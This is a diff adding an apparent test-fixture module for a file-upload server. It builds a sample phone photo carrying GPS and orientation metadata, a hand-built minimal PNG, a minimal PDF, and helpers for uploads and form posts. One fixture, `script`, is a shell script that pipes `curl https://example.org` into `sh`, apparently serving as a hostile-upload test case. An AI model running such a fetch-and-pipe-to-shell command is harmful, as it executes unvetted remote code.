@@ -1,0 +1,65 @@
+import { crc32, deflateSync } from "node:zlib";
+import sharp from "sharp";
+import type { Upload } from "#server/uploads/upload.ts";
+
+/** A picture left red and right blue, as a phone held upright takes it: lying, with its place and make. */
+export async function phonePhoto(): Promise<Buffer> {
+  const red = await sharp(plain("#d00", 400, 400))
+    .png()
+    .toBuffer();
+  return sharp(plain("#00d", 800, 400))
+    .composite([{ input: red, left: 0, top: 0 }])
+    .jpeg()
+    .withExif({
+      IFD0: { Make: "Somebody's phone" },
+      IFD3: { GPSLatitudeRef: "S", GPSLatitude: "4/1 52/1 0/1" },
+    })
+    .withMetadata({ orientation: 6 })
+    .toBuffer();
+}
+
+export const plain = (background: string, width: number, height: number) => ({
+  create: { width, height, channels: 3 as const, background },
+});
+
+/** A sound PNG of so many pixels, in few bytes: black and nothing else. */
+export function blackPng(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header[8] = 1;
+  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * height), { level: 1 });
+  const start = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
+  return Buffer.concat([start, chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND")]);
+}
+
+function chunk(name: string, content = Buffer.alloc(0)): Buffer {
+  const named = Buffer.concat([Buffer.from(name, "latin1"), content]);
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(content.length);
+  const sum = Buffer.alloc(4);
+  sum.writeUInt32BE(crc32(named));
+  return Buffer.concat([length, named, sum]);
+}
+
+/** The smallest thing that is a PDF by its two ends. */
+export const smallPdf = Buffer.from(
+  "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
+);
+
+export const script = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n");
+
+export const upload = (bytes: Buffer, fileName = "picture.png", declaredType = "image/png") =>
+  ({ field: "picture", fileName, declaredType, bytes }) satisfies Upload;
+
+/** A form as a browser posts it; `file` stands for one field with a file. */
+export function postedForm(
+  fields: Record<string, string | File>,
+): RequestInit & { body: FormData } {
+  const body = new FormData();
+  for (const [name, value] of Object.entries(fields)) body.append(name, value);
+  return { method: "POST", body };
+}
+
+export const file = (bytes: Buffer, name: string, type = "") =>
+  new File([new Uint8Array(bytes)], name, { type });
